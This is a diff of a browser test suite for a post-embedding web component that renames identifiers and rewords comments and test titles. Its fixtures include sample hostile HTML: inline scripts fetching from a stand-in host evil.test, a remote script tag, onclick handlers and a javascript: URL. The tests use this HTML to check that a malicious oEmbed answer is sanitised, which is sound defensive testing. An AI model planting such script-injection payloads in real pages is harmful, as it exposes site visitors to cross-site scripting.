@@ -16,7 +16,7 @@ const STRICT = 'data-privacy="strict"';
 const CSP =
   "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html dompurify";
 
-// As X answers: https://docs.x.com/x-for-websites/timelines/guides/oembed-api
+// An answer of X: https://docs.x.com/x-for-websites/timelines/guides/oembed-api
 const ANSWER = {
   version: '1.0',
   type: 'rich',
@@ -26,8 +26,8 @@ const ANSWER = {
   html: '<blockquote class="twitter-tweet"><p lang="en" dir="ltr">Good evening, see <a href="https://t.co/x">this</a></p></blockquote><script async src="https://platform.twitter.com/widgets.js"></script>',
 };
 
-// What nobody may get into a page by an answer; each tells on itself by a request or by what it leaves behind.
-const NASTY = `
+// HTML that an answer must not bring into a page; each item would show by a request, a variable or an element.
+const HOSTILE = `
   <p id="words" class="evil" style="position:fixed" data-x="1" onclick="evil()">Kept words</p>
   <script>window.evil = 1; fetch('https://evil.test/script')</script>
   <script src="https://evil.test/s.js"></script>
@@ -71,7 +71,7 @@ const cardOf = (selector: string): Root | false => {
   };
 };
 
-const saidBy = (selector: string) =>
+const hasPostText = (selector: string) =>
   !!document.querySelector(selector)?.shadowRoot?.querySelector('[part~=words] div');
 
 const endless: Handler = async (_request, response) => {
@@ -83,8 +83,8 @@ const endless: Handler = async (_request, response) => {
   more();
 };
 
-// Endpoints that say nothing of a post, what the console says of each, and where it is if not on the page's own host.
-const SILENT: readonly (readonly [what: string, handler: Handler, why: RegExp, oembed?: string])[] = [
+// Endpoints that return no post, the warning for each, and its URL if it is not on the page's own host.
+const FAILING: readonly (readonly [what: string, handler: Handler, why: RegExp, oembed?: string])[] = [
   ['is not there', text('no', { status: 404 }), /status 404/],
   ['says nothing that is JSON', text('<p>Hello</p>'), /JSON/],
   ['says nothing of HTML', json({ type: 'link', html: 5 }), /no html/],
@@ -97,7 +97,7 @@ const SILENT: readonly (readonly [what: string, handler: Handler, why: RegExp, o
 ];
 
 eachEngine((_engine, test) => {
-  test('a post says what the owner’s endpoint says of it, and its frame comes for who asks', async ({
+  test('a post shows the text from the site owner’s endpoint, and its frame loads on a click', async ({
     web,
     page,
   }) => {
@@ -109,7 +109,7 @@ eachEngine((_engine, test) => {
     openBlog(web, { '/': blogPage(CALL + CALL, tag('/oembed?key=1')), '/oembed': oembed });
     const reader = await page();
     await reader.goto(BLOG);
-    await reader.until(saidBy, 'p ~ tweet-embed, tweet-embed');
+    await reader.until(hasPostText, 'p ~ tweet-embed, tweet-embed');
     const card = await reader.evaluate(cardOf, 'tweet-embed');
     expect(card).toMatchObject({
       words: 'Aki Ariga · X Good evening, see this',
@@ -123,7 +123,7 @@ eachEngine((_engine, test) => {
     );
     await reader.evaluate(() => new Promise(resolve => setTimeout(resolve, 500)));
     expect(web.hosts()).toEqual(['blog.example']);
-    // Two elements of one post ask once.
+    // Two elements of the same post make one request.
     const link = `https://x.com/chezou/status/${POST}`;
     expect(asked).toEqual([`?key=1&url=${encodeURIComponent(link)}&format=json`]);
     await reader.click(['tweet-embed', 'button']);
@@ -136,7 +136,7 @@ eachEngine((_engine, test) => {
     ['an open page', {}, ''],
     ['a strict page with a strict policy', { 'content-security-policy': CSP }, STRICT],
   ] as const) {
-    test(`nothing of a nasty answer runs or asks anybody, on ${page_}`, async ({ web, page }) => {
+    test(`a hostile answer runs no code and makes no request, on ${page_}`, async ({ web, page }) => {
       const author = { author_name: '<b onclick=evil()>Eve</b>', author_url: 'javascript:evil()' };
       openBlog(
         web,
@@ -145,7 +145,7 @@ eachEngine((_engine, test) => {
           '/oembed': json({
             ...author,
             provider_name: { toString: 1 },
-            html: NASTY.replace('//evil.test/i', 'http://evil.test/i'),
+            html: HOSTILE.replace('//evil.test/i', 'http://evil.test/i'),
           }),
         },
         headers,
@@ -153,7 +153,7 @@ eachEngine((_engine, test) => {
       web.host('evil.test', text('window.evil = 20'));
       const reader = await page();
       await reader.goto(BLOG);
-      await reader.until(saidBy, 'tweet-embed');
+      await reader.until(hasPostText, 'tweet-embed');
       await reader.evaluate(() => new Promise(resolve => setTimeout(resolve, 700)));
       const card = await reader.evaluate(cardOf, 'tweet-embed');
       const { words = '', html = '' } = card || {};
@@ -176,14 +176,14 @@ eachEngine((_engine, test) => {
       expect(await reader.evaluate(() => (window as { evil?: number }).evil ?? 0)).toBe(0);
       expect(web.hosts()).toEqual(['blog.example']);
       const { violations, errors } = await diaryOf(reader);
-      // A document that is only parsed complains of what stands in it and would not run anyway.
+      // A document that is only parsed reports violations of inline code that would not run anyway.
       expect(violations.filter(violation => !violation.endsWith(' inline'))).toEqual([]);
       expect(errors).toEqual([]);
       expect(await reader.evaluate(() => location.href)).toBe(BLOG);
     });
   }
 
-  test('pictures of a post come from the page’s own host, and from others where services may be asked', async ({
+  test('pictures of a post load from the page’s own host, and from other hosts only on an open page', async ({
     web,
     page,
   }) => {
@@ -199,7 +199,7 @@ eachEngine((_engine, test) => {
     web.host('pictures.example', text('', { type: 'image/png' }));
     const reader = await page();
     await reader.goto(`${BLOG}strict`);
-    await reader.until(saidBy, 'tweet-embed');
+    await reader.until(hasPostText, 'tweet-embed');
     await expect.poll(() => web.log.map(({ path }) => path), { timeout: 10_000 }).toContain('/own.png');
     await reader.evaluate(() => new Promise(resolve => setTimeout(resolve, 300)));
     expect(web.hosts()).toEqual(['blog.example']);
@@ -209,7 +209,7 @@ eachEngine((_engine, test) => {
     await expect.poll(theirs, { timeout: 10_000 }).toMatchObject({ path: '/p.png', referrer: '' });
   });
 
-  test('a file a post, where the address is a pattern', async ({ web, page }) => {
+  test('with a pattern in `data-oembed` each post is a file', async ({ web, page }) => {
     const paths = [
       `/posts/twitter/${POST}.json`,
       '/posts/mastodon/mastodon.social/%40Gargron/100254678717223630.json',
@@ -221,8 +221,8 @@ eachEngine((_engine, test) => {
     });
     const reader = await page();
     await reader.goto(BLOG);
-    await reader.until(saidBy, 'tweet-embed');
-    await reader.until(saidBy, 'web-embed');
+    await reader.until(hasPostText, 'tweet-embed');
+    await reader.until(hasPostText, 'web-embed');
     expect(await reader.evaluate(cardOf, 'web-embed')).toMatchObject({ words: 'Two', frame: false });
     expect(web.log.map(({ path }) => path)).toEqual(expect.arrayContaining(paths));
     expect(web.hosts()).toEqual(['blog.example']);
@@ -242,8 +242,8 @@ eachEngine((_engine, test) => {
     });
     const reader = await page();
     await reader.goto(BLOG);
-    await reader.until(saidBy, '[src="201"]');
-    await reader.until(saidBy, '[src="202"]');
+    await reader.until(hasPostText, '[src="201"]');
+    await reader.until(hasPostText, '[src="202"]');
     const heights = () =>
       [...document.querySelectorAll('tweet-embed')].map(element => {
         const words = element.shadowRoot?.querySelector('[part~=words]');
@@ -254,7 +254,7 @@ eachEngine((_engine, test) => {
     expect(long).toBeGreaterThan(1000);
   });
 
-  test('where the endpoint says nothing all is as if there were none, and the console says so once', async ({
+  test('with a failing endpoint the frame loads as usual, and there is one warning', async ({
     web,
     page,
   }) => {
@@ -262,27 +262,30 @@ eachEngine((_engine, test) => {
     const ownPath = (index: number) => `/oembed-${index}`;
     publishInFrames(
       web,
-      SILENT.map(([, , , oembed], index) => blogPage(posts, tag(oembed ?? ownPath(index)))),
-      Object.fromEntries(SILENT.map(([, handler], index) => [ownPath(index), handler])),
+      FAILING.map(([, , , oembed], index) => blogPage(posts, tag(oembed ?? ownPath(index)))),
+      Object.fromEntries(FAILING.map(([, handler], index) => [ownPath(index), handler])),
     );
     web.host('other.example', text('{}'));
     const reader = await page({ width: 1600, height: 700 });
-    await openFrames(reader, SILENT.length);
+    await openFrames(reader, FAILING.length);
     const look = () => {
       const { warnings, errors } = (window as unknown as { diary: Diary }).diary;
       document.querySelector('tweet-embed:not([state=ready])')?.scrollIntoView({ behavior: 'instant' });
       return { ready: document.querySelectorAll('tweet-embed[state=ready]').length, warnings, errors };
     };
     const found = async () =>
-      (await askFrames(reader, look)).map((seen, index) => ({ what: SILENT[index]?.[0], ...seen }));
-    const expected = SILENT.map(([what, , why]) => {
+      (await askFrames(reader, look)).map((seen, index) => ({ what: FAILING[index]?.[0], ...seen }));
+    const expected = FAILING.map(([what, , why]) => {
       const said = `^\\[shortcode-embeds\\] no-static-post .*${why.source}`;
       return { what, ready: 2, warnings: [expect.stringMatching(new RegExp(said, 's'))], errors: [] };
     });
     await expect.poll(found, { timeout: 20_000 }).toEqual(expected);
   });
 
-  test('without the option nobody is asked, and nothing is fetched for it', async ({ web, page }) => {
+  test('without `data-oembed` no endpoint is requested and no file is fetched for it', async ({
+    web,
+    page,
+  }) => {
     openBlog(web, { '/': blogPage(CALL) });
     const reader = await page();
     await reader.goto(BLOG);
@@ -291,7 +294,7 @@ eachEngine((_engine, test) => {
     expect(paths.filter(path => /self-hosted|static|html\.js|oembed/.test(path))).toEqual([]);
   });
 
-  test('another post in the same element says something else, or nothing', async ({ web, page }) => {
+  test('an element with a new `src` shows the text of the new post, or none', async ({ web, page }) => {
     openBlog(web, {
       '/': blogPage('<tweet-embed src="201"></tweet-embed>', tag('/posts/{id}.json', STRICT)),
       '/posts/201.json': json({ html: '<p>One</p>' }),
@@ -300,12 +303,12 @@ eachEngine((_engine, test) => {
     const reader = await page();
     await reader.goto(BLOG);
     const words = () => reader.evaluate(cardOf, 'tweet-embed');
-    const become = async (src: string) =>
+    const setSrc = async (src: string) =>
       reader.evaluate(src => document.querySelector('tweet-embed')?.setAttribute('src', src), src);
     await expect.poll(words, { timeout: 10_000 }).toMatchObject({ words: 'One' });
-    await become('202');
+    await setSrc('202');
     await expect.poll(words, { timeout: 10_000 }).toMatchObject({ words: 'Two' });
-    await become('203');
+    await setSrc('203');
     await expect.poll(words, { timeout: 10_000 }).toMatchObject({ html: '' });
     expect(web.hosts()).toEqual(['blog.example']);
   });
